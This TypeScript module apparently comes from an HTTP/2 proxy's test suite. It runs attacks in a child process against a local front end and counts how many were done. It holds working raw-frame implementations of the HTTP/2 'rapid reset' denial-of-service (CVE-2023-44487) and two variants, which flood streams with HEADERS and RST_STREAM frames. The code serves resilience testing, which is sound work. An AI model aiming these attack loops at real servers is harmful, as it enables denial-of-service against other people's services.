/**
 * What strangers do to an HTTP/2 front, each a loop until it is told to stop. They run in a process
 * of their own ({@link startAttack}), so that they do not take the honest client's time.
 *
 * @module
 */
import { once } from "node:events";
import { connect, type TLSSocket } from "node:tls";
import { fileURLToPath } from "node:url";
import { CLIENT_PREFACE, FrameFlag, FrameType, HpackEncoder } from "../../lib/h2/mod.ts";
import { frame, u32 } from "./h2_raw.ts";
import { encodeBlock } from "./hpack.ts";
import { ROOT } from "./module_graph.ts";

/** Where an attack goes. */
export interface AttackTarget {
  readonly port: number;
  readonly host: string;
}

/** Does the attack until `stop` says so. Answers how often it was done. */
export type Attack = (target: AttackTarget, stop: () => boolean) => Promise<number>;

/** One connection of an attacker: no library, no flow control, no shame. */
class Attacker implements AsyncDisposable {
  readonly socket: TLSSocket;
  readonly host: string;
  readonly #encoder = new HpackEncoder();
  nextId = 1;

  private constructor(socket: TLSSocket, host: string) {
    this.socket = socket;
    this.host = host;
  }

  /** Connects and greets, with these settings. */
  static async open(target: AttackTarget, settings: readonly number[] = []): Promise<Attacker> {
    const { port, host } = target;
    const socket = connect({
      port,
      host: "127.0.0.1",
      servername: host,
      rejectUnauthorized: false,
      ALPNProtocols: ["h2"],
    });
    socket.on("error", () => {});
    await Promise.race([once(socket, "secureConnect"), once(socket, "close")]);
    socket.resume();
    const attacker = new Attacker(socket, host);
    await attacker.send(CLIENT_PREFACE, frame(FrameType.settings, 0, 0, settings));
    await attacker.send(frame(FrameType.settings, FrameFlag.ack, 0));
    return attacker;
  }

  get gone(): boolean {
    return this.socket.destroyed || this.socket.readableEnded || !this.socket.writable;
  }

  /** Writes, and waits while the proxy does not read. */
  async send(...chunks: Uint8Array[]): Promise<void> {
    if (this.gone) return;
    if (this.socket.write(Buffer.concat(chunks))) return void await turn();
    await Promise.race([once(this.socket, "drain"), once(this.socket, "close"), pause(500)]);
  }

  /** A request on the next stream. */
  request(path: string, endStream = true, more: readonly string[] = []): Uint8Array {
    return this.requestTo(this.host, path, endStream, more);
  }

  /** The same with another authority. */
  requestTo(
    authority: string,
    path: string,
    endStream = true,
    more: readonly string[] = [],
  ): Uint8Array {
    const id = this.nextId;
    this.nextId += 2;
    const method = endStream ? "GET" : "POST";
    const flags = FrameFlag.endHeaders | (endStream ? FrameFlag.endStream : 0);
    const pseudo = [":method", method, ":scheme", "https", ":authority", authority, ":path", path];
    return frame(FrameType.headers, flags, id, encodeBlock(this.#encoder, [...pseudo, ...more]));
  }

  [Symbol.asyncDispose](): Promise<void> {
    this.socket.destroy();
    return Promise.resolve();
  }
}

/** Repeats `once` on a connection that is opened anew whenever the proxy has closed it. */
async function repeat(
  target: AttackTarget,
  stop: () => boolean,
  once: (attacker: Attacker) => Promise<number>,
): Promise<number> {
  let done = 0;
  while (!stop()) {
    await using attacker = await Attacker.open(target);
    while (!stop() && !attacker.gone) done += await once(attacker);
  }
  return done;
}

function resets(code: number, path: string): Attack {
  return (target, stop) =>
    repeat(target, stop, async (attacker) => {
      const frames: Uint8Array[] = [];
      for (let i = 0; i < 50; i++) {
        frames.push(attacker.request(path));
        frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(code)));
      }
      await attacker.send(...frames);
      return 50;
    });
}

/** Each by its name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset (CVE-2023-44487)": resets(8, "/slow"),
  "rapid reset with NO_ERROR": resets(0, "/slow"),
  /** A request that is answered by the proxy itself, for each one that a backend works on. */
  "rapid reset bought with cheap answers": (target, stop) =>
    repeat(target, stop, async (attacker) => {
      const frames: Uint8Array[] = [];
      for (let i = 0; i < 25; i++) {
        frames.push(attacker.requestTo("other.test", "/"));
        frames.push(attacker.request("/slow"));
        frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(8)));
      }
      await attacker.send(...frames);
      return 25;
    }),
};

/** An attack that runs in another process. */
export interface RunningAttack {
  /** Ends it; how often the attack was done. */
  stop(): Promise<number>;
}

/** Starts an attack in a process of its own and waits until it is under way. */
export async function startAttack(name: string, target: AttackTarget): Promise<RunningAttack> {
  const child = new Deno.Command(Deno.execPath(), {
    args: [
      ...["run", "--no-check", "--no-prompt", "-A", "--config", `${ROOT}/deno.json`],
      ...[fileURLToPath(import.meta.url), name, String(target.port), target.host],
    ],
    stdin: "piped",
    stdout: "piped",
    stderr: "inherit",
  }).spawn();
  const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
  let output = "";
  const readUntil = async (wanted: RegExp): Promise<RegExpExecArray> => {
    for (;;) {
      const found = wanted.exec(output);
      if (found !== null) return found;
      const { value, done } = await reader.read();
      if (done) throw new Error(`attack "${name}" ended early: ${output}`);
      output += value;
    }
  };
  await readUntil(/started/);
  return {
    async stop() {
      await child.stdin.close();
      const [, done] = await readUntil(/done (\d+)/);
      await reader.cancel();
      await child.status;
      return Number(done);
    },
  };
}

function turn(): Promise<void> {
  return new Promise((resolve) => setImmediate(resolve));
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

if (import.meta.main) {
  const [name = "", port = "", host = ""] = Deno.args;
  const attack = ATTACKS[name];
  if (attack === undefined) throw new Error(`no attack "${name}"`);
  let stopped = false;
  const ended = (async () => {
    for await (const _ of Deno.stdin.readable);
    stopped = true;
  })();
  await Deno.stdout.write(new TextEncoder().encode("started\n"));
  const done = await attack({ port: Number(port), host }, () => stopped);
  await ended;
  await Deno.stdout.write(new TextEncoder().encode(`done ${done}\n`));
  Deno.exit(0);
}
